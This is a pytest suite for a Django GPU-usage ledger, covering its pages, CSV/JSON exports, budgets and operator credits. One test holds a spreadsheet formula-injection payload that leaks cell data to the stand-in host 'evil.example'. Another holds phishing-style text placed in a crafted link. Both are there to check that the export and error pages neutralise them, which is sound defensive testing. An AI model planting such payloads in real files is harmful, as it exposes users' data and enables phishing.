"""The ledger pages, the live hour, exports, operators' tools and the job page's meter block."""

import csv
import io
import json
import re
import sqlite3
import threading
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.template import Context, Template
from django.urls import reverse

from common import export as common_export
from jobs import rental
from jobs.models import Job, JobArray, Node
from metering import reports, services
from metering.models import MeterEntry
from tests.factories import UserFactory
from tests.metering.conftest import release, rent

pytestmark = pytest.mark.django_db

NOW = datetime(2024, 5, 20, 12, 30, tzinfo=UTC)
LEDGER = reverse("metering:ledger")


@pytest.fixture(autouse=True)
def frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.fixture
def ledger(team, other_team, node):
    """vision: a finished 4-GPU job in May, one in April, a 2-GPU job running; audio: one job."""
    done = rent(team=team, node=node, at=datetime(2024, 5, 3, 10, tzinfo=UTC), gpus=4, name="finetune")
    release(done, at=datetime(2024, 5, 3, 12, 30, 0, 250000, tzinfo=UTC))
    april = rent(team=team, node=node, at=datetime(2024, 4, 28, 8, tzinfo=UTC), gpus=1, name="april-run")
    release(april, at=datetime(2024, 4, 28, 9, tzinfo=UTC))
    rent(team=team, node=node, at=NOW - timedelta(hours=2, minutes=10), gpus=2, name="pretrain")
    secret = rent(
        team=other_team, node=node, at=datetime(2024, 5, 4, tzinfo=UTC), gpus=8, name="audio-secret"
    )
    release(secret, at=datetime(2024, 5, 4, 6, tzinfo=UTC))
    services.accrue_meter(now=NOW)
    return done


def test_the_ledger_page_shows_the_month_by_day_by_job_and_by_month(member_client, ledger):
    page = member_client.get(LEDGER).content.decode()
    assert "Ledger · team vision" in page and "May 2024" in page
    assert "finetune" in page and "pretrain" in page and "audio-secret" not in page
    assert '<rect class="meter-bar"' in page and "<svg" in page
    assert "13.334 GPU-hours" in page  # finetune 4 x 2.5000694 h + pretrain 2 x 1 h 40 min closed
    assert "April 2024" in page and "1.000" in page
    assert " style=" not in page and "<script>" not in page  # CSP: our own static files only


def test_the_live_hour_polls_itself_with_a_plain_link_fallback(member_client, team, ledger):
    page = member_client.get(reverse("metering:live"), {"team": "vision"}).content.decode()
    assert page.lstrip().startswith(f'<section id="team-{team.pk}-live"')
    assert 'hx-trigger="every 5s"' in page and 'hx-swap="outerHTML"' in page
    assert f'hx-get="{reverse("metering:live")}?seen=' in page and '&amp;team=vision"' in page
    assert f'href="{LEDGER}?team=vision">Refresh</a>' in page
    assert "pretrain" in page and "1.000 GPU-hours" in page  # 2 GPUs x 30 min this hour


def test_the_statement_is_redrawn_when_the_live_hour_finds_rows_the_ledger_gained_since(
    member_client, team, ledger
):
    """A job released while its team watched the ledger: "Running now" dropped it, but the month's total, the
    by-job table and the budget line kept their figures until a reload, and its last GPU-hours were nowhere."""
    page = member_client.get(LEDGER, {"team": "vision"}).content.decode()
    seen = re.search(r"\?seen=([0-9]+)&amp;team=vision", page).group(1)
    figures = page[page.index('<div id="ledger-figures"') :]
    assert (
        'hx-trigger="ledger-changed from:body"' in figures[:300]
        and 'hx-select="#ledger-figures"' in figures[:300]
    )
    assert figures.index("meter-total") < figures.index(
        '</div>\n\n<section class="card" aria-labelledby="ledger-export"'
    )
    quiet = member_client.get(reverse("metering:live"), {"team": "vision", "seen": seen})
    assert "HX-Trigger" not in quiet
    pretrain = MeterEntry.objects.filter(job__name="pretrain").first().allocation
    release(pretrain, at=NOW)
    changed = member_client.get(reverse("metering:live"), {"team": "vision", "seen": seen})
    assert changed["HX-Trigger"] == "ledger-changed"
    again = re.search(r"\?seen=([0-9]+)&amp;team=vision", changed.content.decode()).group(1)
    assert again != seen and "HX-Trigger" not in member_client.get(
        reverse("metering:live"), {"team": "vision", "seen": again}
    )


def test_the_ledger_page_runs_the_same_few_queries_however_big_the_ledger(
    member_client, team, node, ledger, django_assert_num_queries
):
    # Two of them: the jobs' GPU use; two more take and let go of the team's ledger lock around the budget's reads
    # (inside the test's transaction they are nested; a request of its own reads them in one snapshot instead);
    # one, the ledger's version "Running now" compares to redraw the statement.
    with django_assert_num_queries(19):
        assert member_client.get(LEDGER).status_code == 200
    for i in range(12):
        job = rent(team=team, node=node, at=datetime(2024, 5, 1 + i, tzinfo=UTC), gpus=1, name=f"sweep-{i}")
        release(job, at=datetime(2024, 5, 1 + i, 5, tzinfo=UTC))
    with django_assert_num_queries(19):
        assert member_client.get(LEDGER).status_code == 200


@pytest.mark.parametrize(
    "name", ["metering:ledger", "metering:live", "metering:export_csv", "metering:export_json"]
)
def test_another_teams_ledger_is_a_404(outsider_client, ledger, name):
    assert outsider_client.get(reverse(name), {"team": "vision"}).status_code == 404


def test_a_member_without_a_team_parameter_sees_only_their_own_team(outsider_client, ledger):
    page = outsider_client.get(LEDGER).content.decode()
    assert "audio-secret" in page and "finetune" not in page and "pretrain" not in page


def test_operators_see_every_teams_totals_and_each_ledger(operator_client, ledger):
    page = operator_client.get(LEDGER).content.decode()
    assert "Ledger · all teams" in page and "audio-secret" in page and "finetune" in page
    assert "48.000" in page  # audio: 8 GPUs x 6 h
    assert "finetune" in operator_client.get(LEDGER, {"team": "vision"}).content.decode()


def _csv(response) -> list[dict]:
    assert isinstance(response, StreamingHttpResponse)
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_export_streams_exact_rows_of_the_date_range(member_client, ledger):
    response = member_client.get(reverse("metering:export_csv"), {"start": "2024-05-03", "end": "2024-05-03"})
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="e31-ledger-vision-20240503-20240503.csv"' in response["Content-Disposition"]
    rows = _csv(response)
    assert [(r["period_start"], r["seconds"], r["kind"]) for r in rows] == [
        ("2024-05-03T10:00:00.000000Z", "3600.000000", "accrual"),
        ("2024-05-03T11:00:00.000000Z", "3600.000000", "accrual"),
        ("2024-05-03T12:00:00.000000Z", "1800.250000", "final"),
    ]
    assert {r["team"] for r in rows} == {"vision"} and rows[2]["gpu_hours"] == "2.000277778"
    assert "cost" not in rows[0]


def test_the_json_export_streams_the_same_rows(member_client, ledger):
    response = member_client.get(
        reverse("metering:export_json"), {"start": "2024-04-01", "end": "2024-05-31"}
    )
    assert isinstance(response, StreamingHttpResponse)
    rows = json.loads(b"".join(response.streaming_content))
    assert {r["job"] for r in rows} >= {ledger.job_id} and all(r["team"] == "vision" for r in rows)
    assert rows[0]["period_start"] == "2024-04-28T08:00:00.000000Z"
    assert rows[-1]["period_end"] == "2024-05-20T12:00:00.000000Z"


def test_exports_sent_at_once_by_one_web_process_are_bounded(member_client, ledger, monkeypatch, settings):
    """Reproduction: any member could start any number of exports at once, each holding a web thread for as long
    as its client reads (slowly, if it likes): a handful took every thread of a web process."""
    monkeypatch.setattr(common_export, "_SENDING", threading.BoundedSemaphore(1))
    settings.E31_EXPORTS_PER_TEAM = (
        2  # the process's bound, not the team's share (tests/common/test_export_places.py)
    )
    url, query = reverse("metering:export_csv"), {"start": "2024-05-03", "end": "2024-05-03"}
    first = member_client.get(url, query)

    busy = member_client.get(url, query)
    assert busy.status_code == 429 and busy["Retry-After"] == "5"
    assert "exports and downloads are being sent" in busy.content.decode()

    assert len(_csv(first)) == 3  # read to its end, the export frees its place
    assert len(_csv(member_client.get(url, query))) == 3


def test_a_malformed_export_range_is_a_400(member_client, ledger):
    response = member_client.get(reverse("metering:export_csv"), {"start": "2024-05-09", "end": "2024-05-01"})
    assert response.status_code == 400
    assert member_client.get(reverse("metering:export_csv"), {"start": "May"}).status_code == 400


def test_a_browser_asking_for_a_reversed_range_gets_the_ledger_page_back_with_the_fields_kept(
    member_client, ledger
):
    """From 2024-05-09 to 2024-05-01, then CSV: the browser left the console for a bare text page naming URL
    parameters (start=YYYY-MM-DD&end=...), with no header and no way back."""
    response = member_client.get(
        reverse("metering:export_csv"),
        {"start": "2024-05-09", "end": "2024-05-01"},
        HTTP_ACCEPT="text/html,application/xhtml+xml,*/*;q=0.8",
    )
    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    export = html[html.index('id="ledger-export"') :]
    assert "Nothing was exported: the To date is before the From date." in export
    assert 'name="start" value="2024-05-09"' in export and 'name="end" value="2024-05-01"' in export
    assert "start=YYYY-MM-DD" not in html
    # Drawn at the export's address: its month form, pager and refresh still name the ledger's, not the export's.
    assert f'action="{LEDGER}"' in html and f'hx-get="{LEDGER}?team=vision&amp;month=' in html
    assert 'href="?' not in html and "export.csv?" not in html.replace(
        f'action="{reverse("metering:export_csv")}"', ""
    )
    script = member_client.get(reverse("metering:export_csv"), {"start": "2024-05-09", "end": "2024-05-01"})
    assert script.status_code == 400 and script["Content-Type"].startswith(
        "text/plain"
    )  # curl's answer as it was


@pytest.mark.parametrize("accept", ["text/html", "*/*"])
def test_a_malformed_export_date_is_named_not_repeated(member_client, ledger, accept):
    """Reproduction: ?start=Your session expired - call +1 555 0100&end=2026-01-01 drew "Nothing was exported:
    Invalid isoformat string: 'Your session expired - call +1 555 0100'" on the console's own page: a crafted
    link put its words there."""
    words = "Your session expired - call +1 555 0100 to restore access"
    response = member_client.get(
        reverse("metering:export_csv"), {"start": words, "end": "2026-01-01"}, HTTP_ACCEPT=accept
    )
    assert response.status_code == 400
    text = response.content.decode()
    assert "555" not in text and "session expired" not in text
    assert (
        "the From date is not a date: write YYYY-MM-DD"
        if accept == "text/html"
        else "the start date is not a date"
    ) in text


def test_the_exports_cost_column_adds_up_to_the_ledgers_cost(member_client, team, node, settings):
    """Each row's cost was rounded to the cent: 60 one-minute jobs at 1.00 a GPU-hour cost 1.00 on the page and
    summed to 1.20 in the export, 20 % more. A row's cost now keeps six places, from its exact microseconds."""
    settings.E31_RATE_PER_GPU_HOUR = "1.00"
    for n in range(60):
        began = datetime(2024, 5, 6, 1, tzinfo=UTC) + timedelta(minutes=2 * n)
        release(rent(team=team, node=node, at=began, gpus=1), at=began + timedelta(seconds=60))
    rows = _csv(
        member_client.get(reverse("metering:export_csv"), {"start": "2024-05-06", "end": "2024-05-06"})
    )
    exported = sum(Decimal(row["cost"]) for row in rows)
    total = sum(MeterEntry.objects.filter(team=team).values_list("microseconds", flat=True))
    assert len(rows) == 60 and reports.cost(total) == Decimal("1.00")
    assert exported.quantize(Decimal("0.01")) == Decimal("1.00") and abs(exported - 1) < Decimal("0.0001")


@pytest.mark.parametrize("name", ["metering:export_csv", "metering:export_json"])
def test_an_export_ending_on_the_calendars_last_day_is_a_400_not_a_500(member_client, ledger, name):
    response = member_client.get(reverse(name), {"start": "9999-12-01", "end": "9999-12-31"})
    assert response.status_code == 400
    assert b"the end date must be before 9999-12-31" in response.content


def test_no_money_appears_unless_a_rate_is_configured(member_client, settings, ledger):
    settings.E31_RATE_PER_GPU_HOUR = ""
    assert "Cost" not in member_client.get(LEDGER).content.decode()
    settings.E31_RATE_PER_GPU_HOUR = "2.50"
    assert "<th>Cost</th>" in member_client.get(LEDGER).content.decode()
    rows = _csv(
        member_client.get(reverse("metering:export_csv"), {"start": "2024-05-03", "end": "2024-05-03"})
    )
    assert rows[0]["cost"] == "10.000000"  # 4 GPU-hours at 2.50: computed at display time
    assert not any("cost" in f.name or "rate" in f.name for f in MeterEntry._meta.get_fields())


def test_an_operator_sets_a_budget_and_members_cannot_see_the_form(operator_client, member_client, team):
    url = reverse("metering:budget", args=["vision"])
    assert member_client.get(url).status_code == 404
    assert operator_client.get(url).status_code == 200
    response = operator_client.post(url, {"monthly_budget_gpu_hours": "400", "budget_enforced": "on"})
    assert response.status_code == 302
    team.refresh_from_db()
    assert (str(team.monthly_budget_gpu_hours), team.budget_enforced) == ("400.00", True)
    assert operator_client.post(url, {"monthly_budget_gpu_hours": "-3"}).status_code == 422


def test_the_team_ledger_shows_the_budget_sentence(member_client, team, ledger):
    team.monthly_budget_gpu_hours = 10
    team.save()
    page = member_client.get(LEDGER).content.decode()
    assert "Team vision is at" in page and "of 10 GPU-hours this month" in page


def test_an_operator_credits_a_node_loss_gap_with_an_adjustment(
    operator_client, member_client, team, node, settings
):
    settings.E31_NODE_TIMEOUT_S = 60  # declared down at NOW, within its timeout of the last beat
    allocation = rent(team=team, node=node, at=NOW - timedelta(hours=3), gpus=2)
    Node.objects.filter(id=node.id).update(last_heartbeat=NOW - timedelta(seconds=40))
    node.refresh_from_db()
    rental.lose_node_allocations(node=node, now=NOW, detail="silent")
    url = reverse("metering:adjust", args=[allocation.id])
    assert member_client.get(url).status_code == 404
    form = operator_client.get(url).content.decode()
    assert 'value="-40.000000"' in form and "node lost" in form
    response = operator_client.post(
        url, {"seconds": "-40", "reason": "node lost: silent gap", "adjusted_seen": "0"}
    )
    assert response.status_code == 302
    credit = MeterEntry.objects.get(kind="adjustment")
    assert (credit.microseconds, credit.gpus, credit.created_by.username) == (-40_000_000, 2, "olga")
    assert (credit.period_start, credit.period_end) == (NOW - timedelta(seconds=40), NOW)
    assert operator_client.post(url, {"seconds": "0", "reason": "x"}).status_code == 422


def test_a_node_loss_gap_is_credited_once_whoever_posts_the_page_again(operator_client, team, node):
    """Reproduction: after one credit of a 40 s gap the page still offered it, and a second post of the same page
    (a double click, the back button, a second operator) booked it again: 80 s credited for 40."""
    allocation = rent(team=team, node=node, at=NOW - timedelta(hours=3), gpus=2)
    Node.objects.filter(id=node.id).update(last_heartbeat=NOW - timedelta(seconds=40))
    node.refresh_from_db()
    rental.lose_node_allocations(node=node, now=NOW, detail="silent")
    url = reverse("metering:adjust", args=[allocation.id])
    page = operator_client.get(url).content.decode()
    seen = re.search(r'name="adjusted_seen" value="(-?\d+)"', page).group(1)
    posted = {"seconds": "-40", "reason": "node lost: silent gap", "adjusted_seen": seen}

    assert operator_client.post(url, posted).status_code == 302
    again = operator_client.post(url, posted)

    assert again.status_code == 422 and "since this page was shown" in again.content.decode()
    assert MeterEntry.objects.filter(kind="adjustment").count() == 1
    shown_again = re.search(r'name="adjusted_seen" value="(-?\d+)"', again.content.decode()).group(1)
    assert shown_again == str(-80_000_000)  # as they are now: posted as it stands, it is taken
    assert (
        operator_client.post(url, {**posted, "seconds": "-1", "adjusted_seen": shown_again}).status_code
        == 302
    )
    from_before = operator_client.post(url, {"seconds": "-1", "reason": "a page cached before this check"})
    assert from_before.status_code == 422 and "This page is out of date" in from_before.content.decode()
    page = operator_client.get(url).content.decode()
    assert 'value="-40.000000"' not in page and "node lost: silent gap" in page  # listed, not offered again


def test_the_reconciliation_page_is_for_operators(operator_client, member_client, ledger):
    assert member_client.get(reverse("metering:check")).status_code == 404
    assert "0 violations" in operator_client.get(reverse("metering:check")).content.decode()


def test_the_job_meter_tag_shows_when_and_why_the_meter_stopped_and_the_last_heartbeat(
    team, node, member, settings
):
    settings.E31_NODE_TIMEOUT_S = 60  # declared down at NOW, within its timeout of the last beat
    allocation = rent(team=team, node=node, at=NOW - timedelta(hours=2), gpus=2, name="lost-one")
    Node.objects.filter(id=node.id).update(last_heartbeat=NOW - timedelta(seconds=31))
    node.refresh_from_db()
    rental.lose_node_allocations(node=node, now=NOW, detail="silent")
    html = Template("{% load meter %}{% job_meter job %}").render(
        Context({"job": allocation.job, "user": member})
    )
    assert f'id="job-{allocation.job_id}-meter"' in html
    assert "2024-05-20 10:30:00.000000 UTC" in html  # started (RENT)
    assert "2024-05-20 12:30:00.000000 UTC" in html and "node lost" in html  # stopped, and why (in words)
    assert "2024-05-20 12:29:29.000000 UTC" in html and "31.0 s before the node was declared down" in html
    assert "4.000 GPU-hours" in html and "Credit the gap" not in html  # members cannot adjust
    operator = UserFactory(username="olga", is_staff=True)
    assert "Credit the gap" in Template("{% load meter %}{% job_meter job %}").render(
        Context({"job": allocation.job, "user": operator})
    )


def test_the_navigation_links_to_the_ledger_and_marks_it_as_the_current_page(member_client):
    assert f'href="{LEDGER}" aria-current="page">Ledger</a>' in member_client.get(LEDGER).content.decode()


def test_sqlite_formats_export_timestamps_like_postgresql():
    db = sqlite3.connect(":memory:")
    sql = "SELECT " + reports.SQLITE_ISO % {"expressions": ":v"}
    assert db.execute(sql, {"v": "2024-05-03 10:00:00"}).fetchone() == ("2024-05-03T10:00:00.000000Z",)
    assert db.execute(sql, {"v": "2024-05-03 12:00:00.250000"}).fetchone() == ("2024-05-03T12:00:00.250000Z",)


def test_an_earlier_month_shows_its_own_jobs(member_client, ledger):
    page = member_client.get(LEDGER, {"month": "2024-04"}).content.decode()
    assert "April 2024" in page and "april-run" in page and "finetune" not in page


@pytest.mark.parametrize("month", ["0001-01", "2024-13", "May"])
def test_an_implausible_month_falls_back_to_the_current_one(member_client, ledger, month):
    response = member_client.get(LEDGER, {"month": month})
    assert response.status_code == 200 and "May 2024" in response.content.decode()


def test_a_user_without_a_team_is_told_so(client):
    client.force_login(UserFactory(username="lonely"))
    assert client.get(LEDGER).status_code == 403


def test_the_csv_export_does_not_hand_a_spreadsheet_a_formula(member_client, operator, team, node):
    """An operator records a correction whose reason begins with '=' (pasted from a ticket, say); the
    team downloads its ledger as CSV and opens it in a spreadsheet. The reason cell starts with a
    quote, so it is shown as text, not run as a formula; negative seconds and GPU-hours stay numbers,
    and the JSON export keeps the reason exactly."""
    allocation = rent(team=team, node=node, at=datetime(2024, 5, 3, 10, tzinfo=UTC), gpus=1)
    release(allocation, at=datetime(2024, 5, 3, 12, tzinfo=UTC))
    reason = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    services.adjust_meter(
        allocation_id=allocation.id, microseconds=-60_000_000, reason=reason, author=operator,
        now=datetime(2024, 5, 4, tzinfo=UTC),
    )  # fmt: skip
    query = {"start": "2024-05-01", "end": "2024-05-31"}
    [row] = [
        r for r in _csv(member_client.get(reverse("metering:export_csv"), query)) if r["kind"] == "adjustment"
    ]
    assert (row["reason"], row["seconds"], row["gpu_hours"]) == ("'" + reason, "-60.000000", "-0.016666667")
    exported = b"".join(member_client.get(reverse("metering:export_json"), query).streaming_content)
    assert [r["reason"] for r in json.loads(exported) if r["kind"] == "adjustment"] == [reason]


def test_a_months_statement_of_one_array_does_not_say_jobs_are_left_out(member_client, team, node):
    """Team vision ran one array of 3 tasks in May 2024 and nothing else, and opens the ledger page
    for May. The statement shows the array as one line (its 3 tasks summed) and, since no line was
    cut at the statement's limit, does not say that some were left off."""
    start = datetime(2024, 5, 3, 10, tzinfo=UTC)
    array = JobArray.objects.create(
        team=team, name="sweep", spec="0-2", size=3, first_index=0, submitted_at=start
    )
    for index in range(3):
        allocation = rent(team=team, node=node, at=start, gpus=1, name="sweep")
        Job.objects.filter(id=allocation.job_id).update(array=array, array_index=index)
        release(allocation, at=start + timedelta(hours=1))
    page = member_client.get(LEDGER, {"month": "2024-05"}).content.decode()
    assert f"array {array.id} sweep" in page and "3.000" in page
    assert "largest" not in page


def test_a_months_statement_past_its_line_limit_says_the_export_has_the_rest(team, node, monkeypatch):
    """A month has more lines than the statement shows: the statement is marked as cut."""
    monkeypatch.setattr(reports, "JOB_LIMIT", 2)
    for hour in range(3):
        allocation = rent(team=team, node=node, at=datetime(2024, 5, 3, hour, tzinfo=UTC), gpus=1)
        release(allocation, at=datetime(2024, 5, 3, hour, 30, tzinfo=UTC))
    may = reports.statement(team=team, month=datetime(2024, 5, 1, tzinfo=UTC))
    assert (len(may.jobs), may.job_count, may.cut) == (2, 3, True)


def test_a_new_teams_empty_month_says_nothing_is_metered_yet_instead_of_a_month_of_zeros(member_client, team):
    html = member_client.get(LEDGER).content.decode()
    assert "Nothing metered yet this month: the meter counts GPU-time only while a job holds GPUs" in html
    assert "meter-chart" not in html and "The same figures as a table" not in html  # no days of zeros
    earlier = member_client.get(LEDGER, {"month": "2024-04"}).content.decode()
    assert "Nothing metered in April 2024: the meter counts" in earlier
